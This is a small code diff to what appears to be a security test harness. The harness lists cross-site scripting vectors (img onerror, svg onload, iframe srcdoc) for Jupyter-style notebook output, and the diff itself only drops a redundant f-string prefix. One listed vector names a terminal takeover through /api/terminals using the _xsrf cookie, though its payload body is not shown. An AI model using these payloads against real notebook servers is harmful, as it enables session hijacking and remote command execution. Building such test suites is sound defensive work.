@@ -26,7 +26,7 @@ HIDE = (".output_error,.output_stderr,.output_area,.dnn-summary,.jp-OutputArea-o
 
 VECTORS = (
     ("V01", "script: terminal through /api/terminals with the _xsrf cookie", TAKEOVER),
-    ("V02", "img onerror", f"<img src=\"x\" onerror=\"alert('XSS-@ID@')\">"),
+    ("V02", "img onerror", "<img src=\"x\" onerror=\"alert('XSS-@ID@')\">"),
     ("V03", "svg onload", f"<svg onload=\"{SET_TITLE}\"></svg>"),
     ("V04", "iframe srcdoc",
      f"<iframe srcdoc=\"<script>parent.{SET_TITLE};{SET_TITLE}</script>\"></iframe>"),
